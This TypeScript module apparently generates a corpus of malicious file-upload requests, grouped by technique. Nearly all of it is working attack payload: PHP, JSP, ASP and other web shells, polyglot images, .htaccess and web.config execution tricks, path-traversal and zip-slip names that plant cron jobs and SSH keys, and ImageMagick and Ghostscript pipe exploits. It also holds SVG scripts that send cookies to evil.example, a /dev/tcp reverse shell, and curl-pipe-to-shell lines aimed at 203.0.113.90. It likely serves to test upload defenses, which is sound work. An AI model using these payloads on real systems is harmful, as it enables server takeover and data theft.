import type { Chance } from '../../make/chance.ts';
import type { WholeWriter } from '../../make/whole.ts';
import { zipOf } from './zip.ts';

/** Uploads that would run, lie about what they are, or land where they should not. */
export function writeUploads(write: WholeWriter, chance: Chance): void {
  const technique = (name: string): void => write.as({ class: 'upload', technique: name });
  /** One file in a form; the disposition as the attacker writes it. */
  const raw = (path: string, disposition: string, kind: string, content: string | Buffer): void => {
    const mark = `----upl${chance.word(12)}`;
    const head = `--${mark}\r\nContent-Disposition: form-data; ${disposition}\r\n${kind === '' ? '' : `Content-Type: ${kind}\r\n`}\r\n`;
    const body = Buffer.concat([Buffer.from(head), Buffer.from(content), Buffer.from(`\r\n--${mark}--\r\n`)]);
    write.send(path, `multipart/form-data; boundary=${mark}`, body);
  };
  const field = (): string =>
    chance.pick(['file', 'avatar', 'files[]', 'document', 'upload', 'image', 'qqfile', 'Filedata']);
  const file = (name: string, kind: string, content: string | Buffer): void =>
    raw(
      chance.pick(['/profile/photo', '/upload', '/tickets/attach', '/media/add', '/jobs/apply', '/gallery/new']),
      `name="${field()}"; filename="${name}"`,
      kind,
      content,
    );
  const php = (): string =>
    chance.pick([
      "<?php system($_REQUEST['q']); ?>",
      '<?= passthru($_GET["z"]);',
      '<?php eval(base64_decode($_POST["k"]));',
      "<?php $f='ass'.'ert'; @$f($_COOKIE['v']); ?>",
      '<?php file_put_contents("n.php",file_get_contents("http://203.0.113.90/n"));',
    ]);
  const gif = Buffer.from('GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00', 'latin1');
  const jpeg = Buffer.from('\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00', 'latin1');
  const png = Buffer.from('\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01', 'latin1');

  technique('a page of PHP');
  for (const name of ['contact.php', 'thumb.php', 'invoice_2024.PHP', 'class.cache.php'])
    file(name, 'application/x-php', php());
  technique('the other endings of PHP');
  for (const name of ['logo.phtml', 'a.pht', 'b.php7', 'c.phps', 'd.phar', 'e.pgif', 'f.php8', 'g.hphp'])
    file(name, 'application/octet-stream', php());
  technique('two endings');
  for (const name of ['me.jpg.php', 'scan.php.png', 'cv.php.pdf', 'pic.php;.jpg', 'a.phtml.jpeg', 'photo.php.xyz'])
    file(name, 'image/jpeg', php());
  technique('endings that the file system cuts off');
  for (const name of [
    'shell.php.',
    'shell.php ',
    'shell.aspx::$DATA',
    'shell.php%00.png',
    'shell.php....',
    'shell.asp;1.jpg',
    'shell.php/.',
    'shell.PhP%20',
  ])
    file(name, 'image/png', name.includes('as') ? '<%eval request("z")%>' : php());
  technique('a picture that is a page');
  file('smile.php', 'image/gif', Buffer.concat([gif, Buffer.from(php())]));
  file('holiday.php', 'image/jpeg', Buffer.concat([jpeg, Buffer.from(php())]));
  file('badge.png', 'image/png', Buffer.concat([png, Buffer.from("tEXtComment\0<?php system($_GET['i']); ?>")]));
  file(
    'cat.jpg',
    'image/jpeg',
    Buffer.concat([
      jpeg,
      Buffer.from('\xff\xfe\x00\x2e', 'latin1'),
      Buffer.from('<?=`$_POST[j]`?>'),
      Buffer.from('\xff\xd9', 'latin1'),
    ]),
  );
  file('dot.gif', 'image/gif', Buffer.concat([gif, Buffer.from('<script language="php">system("id")</script>')]));
  technique('settings of the web server');
  file('.htaccess', 'text/plain', 'AddType application/x-httpd-php .txt .jpg\n');
  file('.htaccess', 'text/plain', 'Options +ExecCGI\nAddHandler cgi-script .dat\n');
  file('.htaccess', 'application/octet-stream', 'php_value auto_prepend_file "/tmp/up.log"\n');
  file('.user.ini', 'text/plain', 'auto_append_file=badge.png\n');
  file(
    'web.config',
    'text/xml',
    '<configuration><system.webServer><handlers><add name="w" path="*.config" verb="*" modules="IsapiModule" scriptProcessor="%windir%\\system32\\inetsrv\\asp.dll" resourceType="Unspecified"/></handlers></system.webServer></configuration><!--<% Response.write(CreateObject("WScript.Shell").Exec("cmd /c ver").StdOut.ReadAll()) %>-->',
  );
  technique('pages of Java');
  file(
    'help.jsp',
    'text/plain',
    '<%@page import="java.util.*"%><% Process p=Runtime.getRuntime().exec(request.getParameter("x")); %>',
  );
  file(
    'index.jspx',
    'application/xml',
    '<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0"><jsp:scriptlet>Runtime.getRuntime().exec("id");</jsp:scriptlet></jsp:root>',
  );
  file('tag.jspf', 'text/plain', '<% out.println(System.getenv()); %>');
  file(
    'el.jsp',
    'text/html',
    '${pageContext.request.getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec(param.c)}',
  );
  technique('archives for an application server');
  const war = zipOf({
    'WEB-INF/web.xml': '<web-app/>',
    'i.jsp': '<% Runtime.getRuntime().exec(request.getParameter("a")); %>',
  });
  for (const name of ['site.war', 'plugin.jar', 'addon.ear']) file(name, 'application/java-archive', war);
  write.send('/manager/text/deploy?path=/sv&update=true', 'application/octet-stream', war, { method: 'PUT' });
  technique('pages of ASP');
  file('test.aspx', 'text/plain', '<%@ Page Language="Jscript"%><%eval(Request.Item["k"],"unsafe");%>');
  file(
    'report.ashx',
    'text/plain',
    '<%@ WebHandler Language="C#" class="H" %>using System.Web;public class H:IHttpHandler{public void ProcessRequest(HttpContext c){System.Diagnostics.Process.Start("cmd","/c "+c.Request["a"]);}public bool IsReusable{get{return false;}}}',
  );
  file('old.asp', 'image/png', '<%execute request("pw")%>');
  file(
    'svc.asmx',
    'text/xml',
    '<%@ WebService Language="C#" Class="S" %>using System.Web.Services;public class S:WebService{[WebMethod]public string R(string c){return System.Diagnostics.Process.Start("cmd.exe","/c "+c).ToString();}}',
  );
  file('x.cer', 'application/x-x509-ca-cert', '<%eval(request.form("n"))%>');
  file('v.cshtml', 'text/html', '@{ System.Diagnostics.Process.Start("cmd","/c whoami"); }');
  technique('pages of other languages');
  file('a.cfm', 'text/plain', '<cfexecute name="cmd.exe" arguments="/c #url.c#" timeout="5"></cfexecute>');
  file('b.pl', 'text/plain', "#!/usr/bin/perl\nprint `$ENV{'QUERY_STRING'}`;\n");
  file('c.cgi', 'application/octet-stream', '#!/bin/sh\necho Content-Type: text/plain; echo; eval "$QUERY_STRING"\n');
  file('d.shtml', 'text/html', '<!--#exec cmd="uname -a" --><!--#include virtual="/etc/passwd" -->');
  file('e.rhtml', 'text/plain', '<%= `id` %>');
  file('f.lua', 'text/plain', 'ngx.say(io.popen(ngx.var.arg_c):read("*a"))');
  technique('a name that climbs');
  for (const name of [
    '../../../var/www/html/k.php',
    '..\\..\\inetpub\\wwwroot\\k.aspx',
    '....//....//public/k.jsp',
    '/etc/cron.d/refresh',
    '..%2f..%2fwebapps%2fROOT%2fk.jsp',
    'C:\\xampp\\htdocs\\k.php',
    '../.ssh/authorized_keys',
  ])
    file(
      name,
      'text/plain',
      name.includes('ssh')
        ? 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK evil'
        : name.includes('cron')
          ? '* * * * * root curl 203.0.113.90|sh\n'
          : php(),
    );
  technique('two names for one file');
  raw('/upload', `name="file"; filename="ok.png"; filename="ok.php"`, 'image/png', php());
  raw('/upload', `name="file"; filename="cv.pdf"; filename*=UTF-8''cv.phtml`, 'application/pdf', php());
  raw('/upload', `name="file"; filename*=UTF-8''%2e%2e%2fk.php`, 'image/png', php());
  raw('/upload', `name="file"; filename*0="k."; filename*1="php"`, 'image/png', php());
  raw('/media/add', `name="image"; filename="=?utf-8?B?ay5waHA=?="`, 'image/png', php());
  technique('a name in broken quotes');
  raw('/upload', 'name="file"; filename=k.php', 'image/png', php());
  raw('/upload', "name='file'; filename='k.php'", 'image/gif', php());
  raw('/upload', 'name="file"; filename="k.ph\\p"', 'image/jpeg', php());
  raw('/upload', 'name="file"; filename = "a.png\\";k.php"', 'image/png', php());
  raw('/upload', 'name="file"; filename="k.p\r\n hp"', 'image/png', php());
  raw('/upload', 'name="file";;; FileName="k.php";', 'image/png', php());
  technique('a name that is a script or command');
  for (const name of [
    '<img src=x onerror=alert(8)>.png',
    "x';sleep 6;'.jpg",
    '$(curl 203.0.113.90).pdf',
    '`id`.png',
    "a' OR sleep(4)-- -.jpg",
    '{{7*7}}<svg onload=alert(9)>.gif',
    '|touch a;.mp4',
  ])
    file(name, 'image/png', png);
  technique('scripts in drawings');
  file(
    'logo.svg',
    'image/svg+xml',
    '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.example/"+document.cookie)</script></svg>',
  );
  file(
    'icon.svg',
    'image/svg+xml',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="import(\'//evil.example/m.js\')"/>',
  );
  file(
    'map.svg',
    'image/png',
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(3)"><rect width="999" height="999"/></a></svg>',
  );
  file(
    'pic.svgz.svg',
    'image/svg+xml',
    '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(5)"/></foreignObject></svg>',
  );
  technique('pages of HTML as pictures');
  for (const [name, kind] of [
    ['me.html', 'image/png'],
    ['me.htm', 'text/html'],
    ['me.xhtml', 'image/jpeg'],
    ['me.shtml', 'text/plain'],
    ['me.png', 'text/html'],
  ] as const)
    file(name, kind, '<html><body><script>location="//evil.example/?"+localStorage.token</script></body></html>');
  technique('commands to a picture converter');
  file(
    'a.mvg',
    'image/png',
    'push graphic-context\nviewbox 0 0 640 480\nfill \'url(https://203.0.113.90/a.jpg"|id > /tmp/q")\'\npop graphic-context',
  );
  file(
    'b.png',
    'image/png',
    '<?xml version="1.0"?><image><read filename="caption:&lt;?php system($_GET[0]);?&gt;"/><write filename="info:/var/www/w.php"/></image>',
  );
  file(
    'c.eps',
    'application/postscript',
    '%!PS\nuserdict /setpagedevice undef\nsave legal { null restore } stopped { pop } if\nmark /OutputFile (%pipe%id) currentdevice putdeviceprops',
  );
  file(
    'd.jpg',
    'image/jpeg',
    '%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%curl 203.0.113.90|sh) (w) file closefile',
  );
  file(
    'e.svg',
    'image/svg+xml',
    '<svg width="9" height="9" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="msl:/tmp/phpxx" height="1" width="1"/></svg>',
  );
  technique('lists of a film converter');
  file(
    'v.mp4',
    'video/mp4',
    '#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nconcat:http://203.0.113.90/h.m3u8|file:///etc/passwd\n#EXT-X-ENDLIST',
  );
  file('v.avi', 'video/x-msvideo', '#EXTM3U\n#EXTINF:1,\nfile:///etc/hostname\n#EXT-X-ENDLIST');
  file(
    'v.m3u8',
    'application/x-mpegurl',
    '#EXTM3U\n#EXTINF:1,\nhttp://169.254.169.254/latest/meta-data/\n#EXT-X-ENDLIST',
  );
  technique('archives whose names climb');
  for (const name of [
    '../../../../var/www/html/z.php',
    '..\\..\\Startup\\z.bat',
    '/etc/cron.d/z',
    'ok/../../../../root/.ssh/authorized_keys',
  ])
    file('theme.zip', 'application/zip', zipOf({ 'readme.txt': 'ok', [name]: name.endsWith('php') ? php() : 'x' }));
  file('backup.tar', 'application/x-tar', tarOf('../../../../var/www/html/t.php', '<?=`$_GET[0]`?>\n'));
  technique('archives with pages in them');
  for (const name of ['plugin/plugin.php', 'wp-content/mu-plugins/x.php', 'mod/install.php', 'skins/a/s.phtml'])
    file('extension.zip', 'application/x-zip-compressed', zipOf({ 'info.xml': '<a/>', [name]: php() }));
  technique('programs as pictures');
  file(
    'card.jpg',
    'image/jpeg',
    Buffer.from(
      `MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff${'\x00'.repeat(46)}\x80\x00\x00\x00!This program cannot be run in DOS mode.\r\n$`,
      'latin1',
    ),
  );
  file(
    'font.woff',
    'font/woff',
    Buffer.from(`\x7fELF\x02\x01\x01${'\x00'.repeat(9)}\x02\x00\x3e\x00\x01\x00\x00\x00`, 'latin1'),
  );
  file('notes.txt', 'text/plain', '#!/bin/bash\nexec 3<>/dev/tcp/203.0.113.90/443; sh <&3 >&3 2>&3\n');
  file(
    'doc.pdf',
    'application/pdf',
    '%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c powershell -w hidden iwr 203.0.113.90)>>>>>>endobj\n',
  );
  technique('documents that start something');
  file(
    'order.hta',
    'application/hta',
    '<script language="VBScript">CreateObject("WScript.Shell").Run "powershell -enc SQBFAFgA"</script>',
  );
  file(
    'order.js',
    'text/javascript',
    'new ActiveXObject("WScript.Shell").Run("cmd /c certutil -urlcache -f http://203.0.113.90/a a.exe & a.exe")',
  );
  file(
    'link.url',
    'application/octet-stream',
    '[InternetShortcut]\r\nURL=file://203.0.113.90/s/a.exe\r\nIconFile=\\\\203.0.113.90\\s\\i.ico\r\nIconIndex=1\r\n',
  );
  file('rows.csv', 'text/csv', 'id,name\n1,"=cmd|\' /C powershell iwr 203.0.113.90\'!A0"\n');
  file('setup.desktop', 'text/plain', '[Desktop Entry]\nType=Application\nExec=sh -c "curl 203.0.113.90|sh"\n');
  technique('put without a form');
  for (const [path, content] of [
    ['/uploads/q.php', '<?php system($_GET["q"]);'],
    ['/webdav/q.aspx', '<%@Page Language="C#"%><%System.Diagnostics.Process.Start(Request["c"]);%>'],
    ['/files/q.jsp', '<%Runtime.getRuntime().exec(request.getParameter("q"));%>'],
    ['/dav/q.txt;.asp', '<%eval request("q")%>'],
  ] as const)
    write.send(path, 'application/octet-stream', content, { method: 'PUT' });
  write.get('/dav/q.txt', { destination: '/dav/q.php', overwrite: 'T' }, 'MOVE');
  technique('files inside JSON');
  const b64 = (text: string): string => Buffer.from(text).toString('base64');
  write.json('/api/avatar', { name: 'me.php', data: b64('<?php system($_GET["u"]);') });
  write.json('/api/avatar', { image: `data:image/php;base64,${b64('<?=`$_GET[u]`;')}` });
  write.json('/api/files', { path: '../../public/u.jsp', content: '<% Runtime.getRuntime().exec("id"); %>' });
  write.json('/api/files', {
    filename: 'u.aspx',
    content: b64(
      '<%@ Page Language="C#" %><% Response.Write(System.Environment.MachineName); System.Diagnostics.Process.Start("cmd"); %>',
    ),
  });
  write.json('/api/avatar', {
    image: `data:image/svg+xml;base64,${b64('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')}`,
  });
  technique('a name in a header or query');
  write.send('/ajax/upload?qqfile=w.php', 'application/octet-stream', php());
  write.send('/api/upload', 'application/octet-stream', php(), { headers: { 'x-file-name': 'w.phtml' } });
  write.send('/remote/put', 'application/octet-stream', php(), {
    headers: { 'content-disposition': 'attachment; filename="w.php"' },
  });
  write.send('/tus/files/', 'application/offset+octet-stream', php(), {
    method: 'PATCH',
    headers: { 'tus-resumable': '1.0.0', 'upload-offset': '0', 'upload-metadata': `filename ${b64('../w.php')}` },
  });
  technique('parts in another encoding');
  for (const [coding, body] of [
    ['base64', b64('<?php system($_GET["e"]);')],
    ['quoted-printable', '=3C?php system($_GET[=22e=22]);'],
    ['x-uuencode', 'begin 644 k.php\n.PTS<\n`\nend'],
  ] as const)
    write.send(
      '/upload',
      'multipart/form-data; boundary=bE4',
      `--bE4\r\nContent-Disposition: form-data; name="file"; filename="e.php"\r\nContent-Type: image/png\r\nContent-Transfer-Encoding: ${coding}\r\n\r\n${body}\r\n--bE4--\r\n`,
    );
  technique('code for the tools behind');
  file('__init__.py', 'text/x-python', 'import os\nos.system("curl 203.0.113.90|sh")\n');
  file('package.json', 'application/json', '{"name":"a","scripts":{"preinstall":"curl 203.0.113.90|sh"}}');
  file('Dockerfile', 'text/plain', 'FROM alpine\nRUN wget -qO- 203.0.113.90 | sh\nUSER root\n');
  file('model.pkl', 'application/octet-stream', "cos\nsystem\n(S'wget 203.0.113.90'\ntR.");
  file(
    'nb.ipynb',
    'application/json',
    '{"cells":[{"cell_type":"code","source":["!curl 203.0.113.90|sh"],"outputs":[],"metadata":{}}],"nbformat":4,"nbformat_minor":5,"metadata":{}}',
  );
}

/** A tape archive of one file. */
function tarOf(name: string, content: string): Buffer {
  const head = Buffer.alloc(512);
  head.write(name);
  head.write('0000644', 100);
  head.write(`${content.length.toString(8).padStart(11, '0')} `, 124);
  head.write(' '.repeat(8), 148);
  head.write('0', 156);
  head.write('ustar', 257);
  head.write('00', 263);
  head.write(
    `${head
      .reduce((sum, byte) => sum + byte, 0)
      .toString(8)
      .padStart(6, '0')}\0 `,
    148,
  );
  const body = Buffer.alloc(1536);
  body.write(content);
  return Buffer.concat([head, body]);
}
